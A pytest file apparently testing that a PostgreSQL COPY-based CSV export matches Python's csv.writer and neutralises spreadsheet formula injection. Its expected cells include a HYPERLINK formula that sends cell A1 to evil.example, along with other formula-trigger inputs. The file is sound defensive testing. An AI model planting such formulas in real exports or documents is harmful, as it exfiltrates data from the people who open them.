"""The CSV export on PostgreSQL (COPY, every cell written by the database) gives the bytes of the plain flattened
records written by csv.writer."""

import csv
import io
import re
from datetime import date

import pytest
from sqlalchemy import func, select, update
from test_csv_sqlite import HOSTILE, odd_books  # noqa: F401 (a fixture)

from floqast.analytics import csv_copy
from floqast.analytics.filters import Filters
from floqast.analytics.models import ChecklistItem, Reconciliation
from floqast.analytics.records import DATASETS, NEUTRALISED_AT, neutralise_formula
from floqast.extensions import db
from floqast.keys.models import ANALYTICS_SERVICES, Service

# Beyond HOSTILE: separators and quotes COPY and csv.writer must quote alike, text COPY would take for its own
# markers, and text outside ASCII.
MORE = ["a,b", '"', 'say "hi"', "\\.", "\\N", "NULL", " lead", "trail ", "tab\tinside", "é;=ß",
          "日本語", "😀=1", "a\n", "\n", ";"]
TRICKY = [*HOSTILE, *MORE]

@pytest.fixture
def postgresql(app):
    if db.engine.dialect.name != "postgresql":
        pytest.skip("COPY is PostgreSQL's: CI runs this with DATABASE_URL set")


@pytest.fixture
def tricky_books(team, odd_books):  # noqa: F811
    """odd_books, and text that CSV quoting and COPY treat specially in columns odd_books leaves alone."""
    for model in (Reconciliation, ChecklistItem):
        columns = ("preparer_assigned_to", "reviewer_signed_by" if model is Reconciliation else "preparer_signed_by")
        ids = db.session.scalars(select(model.id).order_by(model.id.desc()).limit(len(MORE))).all()
        for record_id, text in zip(ids, MORE, strict=True):
            db.session.execute(update(model).where(model.id == record_id).values(dict.fromkeys(columns, text)))
    db.session.execute(update(ChecklistItem).where(ChecklistItem.id == select(func.min(ChecklistItem.id))
                                                   .scalar_subquery()).values(tags=TRICKY))
    for record_id, tags in zip(db.session.scalars(select(ChecklistItem.id).order_by(ChecklistItem.id.desc())),
                               (None, ["", ""], ["only"]), strict=False):  # None: JSON null
        db.session.execute(update(ChecklistItem).where(ChecklistItem.id == record_id).values(tags=tags))
    db.session.commit()


def plain_csv(dataset, team, filters: Filters, after_id=None) -> bytes:
    """The records flattened the plain way (Dataset.flat_record) and written by csv.writer, without the header."""
    buffer = io.StringIO(newline="")
    with db.engine.connect() as connection:
        rows = connection.execute(dataset.query(team.id, filters, team.today(), after_id))
        csv.writer(buffer).writerows(dataset.flat_record(row).values() for row in rows)
    return buffer.getvalue().encode()


def copy_csv(dataset, team, filters: Filters, after_id=None) -> bytes:
    return b"".join(csv_copy.copied(db.engine, csv_copy.query(dataset, team.id, filters, team.today(), after_id)))


@pytest.mark.parametrize("service", ANALYTICS_SERVICES)
def test_copy_writes_the_bytes_of_the_python_path(postgresql, team, tricky_books, service):
    dataset = DATASETS[service]

    copied = copy_csv(dataset, team, Filters())

    assert copied == plain_csv(dataset, team, Filters())
    parsed = list(csv.reader(io.StringIO(copied.decode(), newline="")))
    assert len(parsed) == db.session.scalar(select(func.count()).select_from(dataset.model))
    cells = {cell for row in parsed for cell in row}
    assert {"'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "'-5", "a;\"=2".replace(";", ";'"),
            "a,b", 'say "hi"', "\\.", "", "日本語", "é;'=ß", "line\n'@x", "a\r\n'-1;b"} <= cells
    if service is Service.RECONCILIATIONS:
        assert {"-1234.50", "-0.05", "0.00", "9999999999999999.99"} <= cells
    else:
        assert neutralise_formula(";".join(TRICKY)) in cells  # the tags, each split-off part neutralised
    assert b"\r\n" in copied and not re.search(rb'[^\r]\n(?=[0-9]+,)', copied)  # every record ends CRLF


def test_copy_applies_the_same_filters(postgresql, team, tricky_books):
    dataset = DATASETS[Service.RECONCILIATIONS]
    entity_id = db.session.scalar(select(func.min(Reconciliation.entity_id)))
    after_id = db.session.scalar(select(func.min(Reconciliation.id))) + 3
    filters = Filters(year=2025, month=3, modified_since=date(2025, 1, 1), modified_before=date(2026, 1, 1),
                      entity_ids=(entity_id, entity_id + 1000))

    copied = copy_csv(dataset, team, filters, after_id)

    assert copied and copied == plain_csv(dataset, team, filters, after_id)


@pytest.mark.parametrize("text", [*TRICKY, "=" * 3, ";;;", "\r\r\n=", "'", "x-y", "+", "a;-b\n+c\r@d;\te"])
def test_the_sql_neutralisation_is_the_python_one(postgresql, text):
    in_sql = db.session.scalar(select(csv_copy.neutralised(text)))

    assert in_sql == NEUTRALISED_AT.sub("'", text) == neutralise_formula(text)
